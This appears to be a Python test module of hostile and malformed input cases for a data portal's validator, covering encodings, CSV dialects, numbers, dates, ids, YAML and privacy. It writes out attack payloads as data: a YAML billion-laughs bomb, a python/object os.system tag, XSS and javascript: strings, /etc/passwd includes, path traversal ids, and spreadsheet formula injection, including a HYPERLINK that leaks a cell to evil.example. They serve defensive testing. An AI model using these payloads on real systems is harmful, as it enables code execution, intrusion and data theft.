"""The shared cases about data, made again on a piece of data like the portal's own.

Each is a change to the folder and all that is told of it: code, file, line, field. A case that is accepted
has nothing to tell; ``kept`` is then what a cell must hold after reading.
"""

import unicodedata
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

from tests.checking.examples import Change, cells, put, remove, replace
from tests.hostile.sample import CASE, FACILITIES, RESULTS

Place = tuple[str, str, int | None, str]
CASE_FILE, FACILITIES_FILE, RESULTS_FILE = f"data/{CASE}", f"data/{FACILITIES}", f"data/{RESULTS}"


@dataclass(frozen=True, kw_only=True)
class Case:
    """``kept`` names a table, the line of a row, a field and its value."""

    change: Change
    told: Sequence[Place] = ()
    kept: tuple[str, int, str, str] | None = None


def every(*changes: Change) -> Change:
    """Several changes, one after the other."""

    def change(folder: Path) -> None:
        for one in changes:
            one(folder)

    return change


def text(path: str, convert: "str | tuple[str, str]") -> Change:
    """A file in another encoding, or with other line ends."""

    def change(folder: Path) -> None:
        content = (folder / path).read_text(encoding="utf-8")
        if isinstance(convert, tuple):
            content, encoding = content.replace("\n", convert[0]), convert[1]
        else:
            encoding = convert
        (folder / path).write_bytes(content.encode(encoding))

    return change


def line(path: str, number: int, new: str | None) -> Change:
    """One line of a file in other words, or taken out."""

    def change(folder: Path) -> None:
        lines = (folder / path).read_text(encoding="utf-8").split("\n")
        lines[number - 1 : number] = [] if new is None else [new]
        (folder / path).write_text("\n".join(lines), encoding="utf-8", newline="")

    return change


def added(path: str, new: str) -> Change:
    """Text after the end of a file."""
    return lambda folder: (
        (folder / path).write_text((folder / path).read_text(encoding="utf-8") + new, encoding="utf-8", newline="")
        and None
    )


def facility(code: str, field: str, value: str, row: int = 0) -> Case:
    """A cell of a facility: the first one's, or the second one's, to which nothing refers."""
    return Case(change=cells(FACILITIES, row=row, **{field: value}), told=[(code, FACILITIES_FILE, row + 2, field)])


def result(code: str, field: str, value: str, **more: str) -> Case:
    """A cell of the first result."""
    return Case(change=cells(RESULTS, **{field: value, **more}), told=[(code, RESULTS_FILE, 2, field)])


def shown(field: str, value: str, path: str = FACILITIES) -> Case:
    """Text that is taken as the characters that were typed."""
    name = path.removesuffix(".csv")
    return Case(change=cells(path, **{field: value}), kept=(name, 2, field, value))


def record(code: str, number: int, field: str, *changes: Change) -> Case:
    """The case study's own file."""
    return Case(change=every(*changes), told=[(code, CASE_FILE, number, field)])


BOMB = "".join(
    f"{name}: &{name} [{','.join([f'*{before}'] * 9) if before else ','.join(['lol'] * 9)}]\n"
    for before, name in zip(["", *"abcdefgh"], "abcdefghi", strict=True)
)
BIA = "Công ty Cổ phần Bia Hà Nội - Mẫu"
HEADER = "facility_id,period_from,period_to,metric_id,basis,item_vi,item_en,quantity,quantity_high"

CASES: Mapping[str, Case] = {
    # -- encodings
    "E01-utf8-bom": Case(change=text(RESULTS, "utf-8-sig"), kept=("facility_results", 2, "facility_id", "bia-mau")),
    "E03-utf16be-nobom": Case(change=text(RESULTS, "utf-16-be"), told=[("encoding-not-utf8", RESULTS_FILE, None, "")]),
    "E05-tcvn3-bytes": Case(
        change=every(
            replace(FACILITIES, BIA, "C\u00abng ty C\u00e6 ph\u00c7n Bia"),
            lambda folder: (
                (folder / FACILITIES).write_bytes(
                    (folder / FACILITIES).read_text(encoding="utf-8").encode("latin-1", errors="ignore")
                )
                and None
            ),
        ),
        told=[("encoding-not-utf8", FACILITIES_FILE, 2, "")],
    ),
    "E07-vni-mojibake": facility("old-font", "title_vi", "Coâng ty Coå phaàn Bia Hoàng Haø"),
    "E09-nfd-text": Case(
        change=lambda folder: (
            (folder / FACILITIES).write_text(
                unicodedata.normalize("NFD", (folder / FACILITIES).read_text(encoding="utf-8")), encoding="utf-8"
            )
            and None
        ),
        kept=("facilities", 2, "title_vi", BIA),
    ),
    "E11-zero-width-in-name": facility("invisible-character", "title_vi", "Công ty\u200b Bia Hồng Hà"),
    "E13-nbsp-in-key": result("blank-edges", "facility_id", "bia-mau\u00a0"),
    "E15-replacement-char": facility("damaged-text", "title_vi", "Công ty Bia H\ufffdng Hà"),
    "E17-ansi-escape": facility("control-character", "title_en", "Hồng Hà\x1b[31m Beer"),
    "E19-utf32": Case(change=text(RESULTS, "utf-32"), told=[("encoding-not-utf8", RESULTS_FILE, None, "")]),
    # -- dialects
    "D01-semicolon": Case(
        change=lambda folder: (
            (folder / RESULTS).write_text(
                (folder / RESULTS).read_text(encoding="utf-8").replace(",", ";"), encoding="utf-8"
            )
            and None
        ),
        told=[("separator", RESULTS_FILE, 1, "")],
    ),
    "D03-crlf": Case(change=text(RESULTS, ("\r\n", "utf-8")), kept=("facility_results", 3, "item_vi", "Than")),
    "D05-embedded-newline": result("line-break", "item_vi", "Điện\nnăng"),
    "D07-duplicate-header": Case(
        change=replace(RESULTS, "quantity,quantity_high", "quantity,quantity"),
        told=[("header-duplicate", RESULTS_FILE, 1, "quantity"), ("header-missing", RESULTS_FILE, 1, "quantity_high")],
    ),
    "D09-ragged-short": Case(
        change=line(RESULTS, 2, "bia-mau,2007,2008,electricity,saving,Điện,Electricity,144000,"),
        told=[("row-length", RESULTS_FILE, 2, "")],
    ),
    "D11-trailing-comma-rows": Case(
        change=added(RESULTS, "," * 33 + "\n" + "," * 33 + "\n"),
        told=[("row-empty", RESULTS_FILE, 5, ""), ("row-empty", RESULTS_FILE, 6, "")],
    ),
    "D13-huge-field": result("too-long", "item_en", "x" * 2_000_000),
    "D15-unclosed-quote": Case(
        change=replace(RESULTS, ",Điện,", ',"Điện,'), told=[("quote-unclosed", RESULTS_FILE, 2, "")]
    ),
    "D17-columns-swapped-header": Case(
        change=replace(RESULTS, HEADER, HEADER.replace("item_vi,item_en", "item_en,item_vi")),
        told=[("header-order", RESULTS_FILE, 1, "item_en")],
    ),
    "D19-zero-bytes": Case(change=put(RESULTS, b""), told=[("file-empty", RESULTS_FILE, None, "")]),
    "D21-excel-sep-line": Case(
        change=replace(RESULTS, HEADER, f"sep=,\n{HEADER}"), told=[("separator-line", RESULTS_FILE, 1, "")]
    ),
    "D23-unknown-column": Case(
        change=every(
            replace(FACILITIES, "tax_code,", "tax_code,contact_phone,"),
            replace(FACILITIES, "official,,", "official,,,"),
        ),
        told=[("header-unknown", FACILITIES_FILE, 1, "contact_phone")],
    ),
    "D25-whitespace-only-required": facility("required", "title_vi", "  "),
    "D27-git-conflict-markers": Case(
        change=every(
            replace(RESULTS, "\nbia-mau,2007,2008,coal", "\n<<<<<<< HEAD\nbia-mau,2007,2008,coal"),
            replace(RESULTS, "\nbia-mau,2007,2008,water", "\n=======\nbia-mau,2007,2008,water"),
            added(RESULTS, ">>>>>>> nhanh-khac\n"),
        ),
        told=[("conflict-marker", RESULTS_FILE, number, "") for number in (3, 5, 7)],
    ),
    # -- numbers
    "N01-vi-thousands": result("number-format", "quantity", "144.000,5"),
    "N03-percent": result("number-format", "quantity", "16,67%"),
    "N05-nan": result("number-format", "quantity", "NaN"),
    "N07-inf2": result("number-format", "quantity", "inf"),
    "N09-1e308": result("number-format", "quantity", "1e308"),
    "N11-fullwidth": result("number-format", "quantity", "１４４０００"),
    "N13-apostrophe": result("number-format", "quantity", "'144000"),
    "N15-unicode-minus": result("number-format", "quantity", "\u2212144000"),
    "N17-excel-ref": result("number-format", "quantity", "#REF!"),
    "N19-unit-in-cell": result("number-format", "quantity", "144000 kWh"),
    # A quantity may be unknown here, the year that it belongs to may not.
    "N21-empty-required": result("required", "period_from", ""),
    "N23-hex": result("number-format", "quantity", "0x1A"),
    "N25-ambiguous-1.234": result("implausible-price", "quantity", "144.000"),
    # A saving is not typed beside before and after here; it contradicts its baseline when it is above it.
    "N27-saving-not-difference": result("saving-above-baseline", "quantity", "144000", baseline="120000.5"),
    "N29-pct-as-fraction": result("percent-as-fraction", "quantity", "0.1667", unit_id="percent"),
    "N31-unit-mismatch": result("implausible-amount", "unit_id", "toe", saving_vnd="", quantity="120000.5"),
    "N33-leading-zero-lost": facility("pattern", "tax_code", "100109106"),
    "N35-20-digits": result("number-precision", "quantity", "12345678901234567890"),
    # -- dates
    "T01-31-feb": facility("date-format", "consent_on", "31/02/2013"),
    # Days may be known to the month here; of a task the month must be known: see the neighbours.
    "T03-iso-month": facility("date-format", "consent_on", "2013-9"),
    "T05-excel-serial": facility("date-format", "consent_on", "41518"),
    "T07-iso-30-feb": facility("date-format", "consent_on", "2013-02-30"),
    "T09-datetime-tz": facility("date-format", "consent_on", "2013-09-01T00:00:00+07:00"),
    "T11-year-0013": facility("date-format", "consent_on", "0013-09-01"),
    "T13-end-before-start": Case(
        change=cells(RESULTS, period_to="2006"), told=[("period-order", RESULTS_FILE, 2, "period_from")]
    ),
    "T15-consent-after-today": facility("date-in-future", "consent_on", "2099-01-01"),
    # -- ids
    "I01-duplicate": Case(
        change=line(
            RESULTS,
            3,
            "bia-mau,2007,2008,electricity,saving,Than,Coal,100"
            + ",,,kwh,year"
            + "," * 11
            + "published,bia-mau,,,,,bia-nguon,,,verified,2026-11,published",
        ),
        told=[("duplicate-key", RESULTS_FILE, 3, "facility_id")],
    ),
    "I03-traversal": facility("pattern", "id", "../../x", row=1),
    "I05-very-long": facility("too-long", "id", "a" * 300, row=1),
    "I07-empty": facility("required", "id", "", row=1),
    "I09-site-path-assets": facility("id-reserved", "id", "assets", row=1),
    "I11-encoded": facility("pattern", "id", "%2e%2e%2fx", row=1),
    "I13-option": facility("formula-start", "id", "-rf", row=1),
    "I15-proto": facility("pattern", "id", "__proto__", row=1),
    "I17a-id-null": Case(change=cells(FACILITIES, row=1, id="null"), kept=("facilities", 3, "id", "null")),
    "I17c-id-na": Case(change=cells(FACILITIES, row=1, id="na"), kept=("facilities", 3, "id", "na")),
    "I17e-id-1e5": Case(change=cells(FACILITIES, row=1, id="1e5"), kept=("facilities", 3, "id", "1e5")),
    "I18-trailing-newline-regex": facility("blank-edges", "id", "giay-mau\n", row=1),
    # -- references
    "F01-fk-nothing": result("reference", "facility_id", "f999"),
    "F03-fk-empty": result("required", "facility_id", ""),
    "F05-facility-still-referenced-removed": Case(
        change=line(FACILITIES, 2, None),
        told=[
            ("reference", CASE_FILE, 7, "facility_id"),
            *(("reference", RESULTS_FILE, number, "facility_id") for number in (2, 3, 4)),
        ],
    ),
    # -- languages
    "L01-missing-en": facility("required", "title_en", ""),
    "L03-swapped": Case(
        change=cells(
            FACILITIES, row=1, title_vi="Phong Châu Paper Company".replace("â", "a"), title_en="Công ty Giấy Phong Châu"
        ),
        told=[("languages-exchanged", FACILITIES_FILE, 3, "title_vi")],
    ),
    "L05-placeholder": facility("placeholder", "title_en", "TODO"),
    # -- YAML
    "Y01-billion-laughs": Case(
        change=put(CASE, BOMB),
        told=[
            ("yaml-alias", CASE_FILE, number, "") for number in range(1, 10) for _ in range(1 if number == 1 else 10)
        ],
    ),
    "Y03-tab-indent": record("yaml-syntax", 34, "", line(CASE, 34, "\ttechnique_id: good_housekeeping")),
    "Y05-python-object": Case(
        change=put(CASE, '!!python/object/apply:os.system ["touch /tmp/sxsh-hostile"]\n'),
        told=[("yaml-tag", CASE_FILE, 1, "")],
    ),
    "Y07-wrong-top-type": Case(change=put(CASE, "- id: bia-mau\n"), told=[("yaml-shape", CASE_FILE, 1, "")]),
    "Y09-octal": record("integer-format", 11, "year_from", line(CASE, 11, "year_from: 012")),
    "Y11-unquoted-colon": record("yaml-syntax", 3, "", line(CASE, 3, "title_vi: Bia: Hồng Hà")),
    "Y13-self-alias": Case(
        change=put(CASE, "- &x [*x]\n"),
        told=[("yaml-alias", CASE_FILE, 1, ""), ("yaml-alias", CASE_FILE, 1, "")],
    ),
    "Y15-env-tag": record("yaml-tag", 4, "", line(CASE, 4, "title_en: !ENV GITHUB_TOKEN")),
    "Y17-version-float": record("yaml-quote", 17, "product_vi", line(CASE, 17, "product_vi: 1.10")),
    "Y19-nul": record("control-character", 17, "", line(CASE, 17, "product_vi: a\x00b")),
    # -- text that is only text
    "X01-script": shown("title_en", "<script>alert(1)</script>"),
    "X03-js-link": shown("title_en", "[x](javascript:alert(1))"),
    "X05-jinja-stmt": shown("title_en", "{% include '/etc/passwd' %}"),
    "X07-script-close-json": shown("title_en", "</script><script>alert(1)</script>"),
    "X09-html-comment": shown("title_en", "<!-- --><base href=//evil.example>"),
    "X11-pipe-backtick": shown("title_en", "A | B `c` *d* _e_ # f"),
    "X13-snippet": shown("title_en", 'see --8<-- "/etc/passwd"'),
    "X15-tag-split": shown("title_en", "<script src=//evil.example/x.js>"),
    # -- formulas
    "M01-eq": result("formula-start", "item_en", "=cmd|' /C calc'!A0"),
    "M03-minus": result("formula-start", "item_en", "-2+3+cmd|' /C calc'!A0"),
    "M05-tab": result("formula-start", "item_en", "\t=1+1"),
    "M07-hyperlink": result("formula-start", "item_en", '=HYPERLINK("https://evil.example/?"&A1,"Details")'),
    "M09-lf": result("formula-start", "item_en", "\n=1+1"),
    "M11-pct-dde": shown("item_en", "%0A=1+1", RESULTS),
    "M13-quote-break": shown("item_en", 'x",=1+1,"y', RESULTS),
    # -- addresses: they are made of ids here, never of names
    "S01-fold-collision": Case(
        change=every(
            cells(FACILITIES, title_vi="Đá", title_en="Stone"),
            cells(FACILITIES, row=1, title_vi="Da", title_en="Leather"),
        ),
        kept=("facilities", 3, "title_vi", "Da"),
    ),
    # -- privacy
    "P01-no-consent-with-result": Case(
        change=cells(FACILITIES, consent="none"),
        told=[
            ("consent-missing", CASE_FILE, 7, "facility_id"),
            *(("consent-missing", RESULTS_FILE, number, "facility_id") for number in (2, 3, 4)),
        ],
    ),
    "P03-phone-in-text": facility("personal-data", "title_en", "Hồng Hà (call Mr An 0912 345 678)"),
    "P05-national-id": facility("personal-data", "title_vi", "Nguyễn Văn Mẫu 001085012345"),
    "P09-small-cell": Case(
        change=every(
            cells(FACILITIES, row=1, consent="none"),
            added(
                RESULTS,
                "giay-mau,2007,2008,electricity,saving,Điện,Electricity,65000,,,kwh,year"
                + "," * 11
                + "published,,,,,,bia-nguon,,,verified,2026-11,published\n",
            ),
        ),
        told=[("consent-missing", RESULTS_FILE, 5, "facility_id")],
    ),
    # -- files and descriptions
    "V01-data-file-removed": Case(change=remove(RESULTS), told=[("file-missing", RESULTS_FILE, None, "")]),
    "V07-schema-bad-type": Case(
        change=replace("schemas/facilities.yaml", "type: number", "type: nummber"),
        told=[("schema-invalid", "data/schemas/facilities.yaml", None, "")],
    ),
    "V09-schema-absolute-path": Case(
        change=replace("datapackage.yaml", "path: facilities.csv", "path: /etc/passwd"),
        told=[("file-outside", "data/datapackage.yaml", None, "")],
    ),
}
